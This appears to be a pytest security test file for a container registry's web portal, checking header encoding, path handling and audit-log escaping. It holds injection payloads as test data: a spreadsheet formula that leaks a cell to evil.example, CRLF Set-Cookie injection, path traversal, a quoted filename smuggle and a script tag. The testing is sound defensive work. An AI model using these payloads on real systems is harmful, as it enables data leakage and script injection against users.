"""User input encoded for its context. A `ref` with quotes, a newline or non-ASCII text never breaks the
Content-Disposition header (nor gives a 500); file names use RFC 6266/5987. An unauthenticated visitor's
failed login names (spreadsheet formulas, HTML) reach the audit CSV as text and the audit page escaped."""

from __future__ import annotations

import csv
import io
import re
import secrets
import subprocess
from email.message import Message
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest

from nagaya.encode import content_disposition
from tests.integration.site.conftest import Site, SiteUser, module_people, push
from tests.security.helpers import portal

pytestmark = pytest.mark.integration

FORMULAS = ['=HYPERLINK("//evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.fixture(scope="module")
def users(site: Site) -> dict[str, SiteUser]:
    return module_people(site, "out", ("owner", "admin"))


def _filename(header: str) -> str | None:
    """The name a browser saves as: RFC 5987's filename* when present (RFC 6266 section 4.3), else filename."""
    ext = re.search(r"filename\*=([A-Za-z0-9-]+)'[^']*'([^;\s]+)", header)
    if ext:
        return unquote(ext.group(2), encoding=ext.group(1), errors="strict")
    m = Message()
    m["content-disposition"] = header
    name = m.get_filename()
    return str(name) if name is not None else None


@pytest.mark.parametrize("name", ['a"b.tar', "x\r\nSet-Cookie: a=b.tar", "ünï 名前.tar", "../../etc/passwd", ";x=y",
                                  "", "\\\\server\\share"])
def test_content_disposition_is_always_one_well_formed_header(name: str) -> None:
    value = content_disposition(name)
    assert "\r" not in value and "\n" not in value and value.isascii()
    assert value.count('"') == 2 and value.startswith('attachment; filename="')
    got = _filename(value)                                  # a standard parser reads the RFC 5987 name back
    assert got and "/" not in got and "\\" not in got and "\n" not in got and "\r" not in got
    if name and name.isprintable() and "/" not in name and "\\" not in name:
        assert got == name


def test_odd_refs_never_break_the_response(site: Site, users: dict[str, SiteUser], image_archive: Path) -> None:
    owner = users["owner"]
    repo = f"{owner.name}/app"
    assert push(owner, image_archive, f"{site.registry}/{repo}:1", owner.creds(site.registry)).returncode == 0
    c, _ = portal(site, owner.name, owner.password)
    for ref in ('1"; filename="evil.sh', "1\r\nSet-Cookie: x=y", "ü", "1\n", "../../x", "a" * 300):
        r = c.get(f"/manifest/{repo}", params={"ref": ref})
        assert r.status_code == 400 and "x=y" not in r.headers.get("set-cookie", ""), (ref, r.status_code)
        r = c.get(f"/download/{repo}", params={"ref": ref, "tag": ref})
        assert r.status_code == 400, (ref, r.status_code)
    r = c.get(f"/manifest/{repo}", params={"ref": "1"})               # the honest download still works
    assert r.status_code == 200, r.text
    assert _filename(r.headers["content-disposition"]) == f"{owner.name}_app_1.manifest.json"
    assert "filename*=UTF-8''" in r.headers["content-disposition"]
    with c.stream("GET", f"/download/{repo}", params={"ref": "1", "tag": 'v1"\r\nX: y'}) as r:
        assert r.status_code == 200
        name = _filename(r.headers["content-disposition"])
        assert name and name.endswith(".oci.tar") and '"' not in name and "\n" not in name, name


def test_audit_csv_and_page_neutralise_what_visitors_type(site: Site, users: dict[str, SiteUser]) -> None:
    marker = secrets.token_hex(4)
    names = [f"{f}{marker}" for f in FORMULAS] + [f"<script>alert('{marker}')</script>"]
    for n in names:                                    # unauthenticated: anyone on the network can do this
        with httpx.Client(timeout=30) as anon:
            assert anon.post(f"{site.server}/api/login", auth=(n, "x")).status_code in (401, 429)
    admin = users["admin"]
    c, _ = portal(site, admin.name, admin.password)
    r = c.get("/admin/audit.csv", params={"action": "login.fail"})
    assert r.status_code == 200, r.text
    rows = [row for row in csv.reader(io.StringIO(r.text)) if marker in "".join(row)]
    actors = {row[2] for row in rows}
    for f in FORMULAS:
        assert "'" + f + marker in actors, (f, actors)          # shown as text, never run as a formula
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    page = c.get("/admin/audit", params={"action": "login.fail"}).text
    assert f"<script>alert('{marker}')" not in page and f"&lt;script&gt;alert(&#39;{marker}" in page
    # the CLI's --csv too
    out = admin.nagaya("admin", "audit", "--action", "login.fail", "--csv")
    assert out.returncode == 0, out.stderr
    cli_actors = {row[2] for row in csv.reader(io.StringIO(out.stdout)) if marker in "".join(row)}
    assert not [a for a in cli_actors if a.startswith(("=", "+", "-", "@", "\t", "\r"))], cli_actors
    assert len([a for a in cli_actors if a.startswith("'")]) == len(FORMULAS), cli_actors


def test_jinja_autoescape_is_on_and_no_user_data_is_marked_safe() -> None:
    import nagaya.server.portal.base as web

    env = web.make_templates().env
    auto = env.autoescape
    assert auto("page.html") if callable(auto) else auto
    assert env.from_string("{{ x }}").render(x="<b>") == "&lt;b&gt;"
    templates = web.TEMPLATES
    marked = subprocess.run(["grep", "-rn", r"|\s*safe\|Markup(", str(templates)], capture_output=True, text=True)
    assert marked.stdout == "", marked.stdout
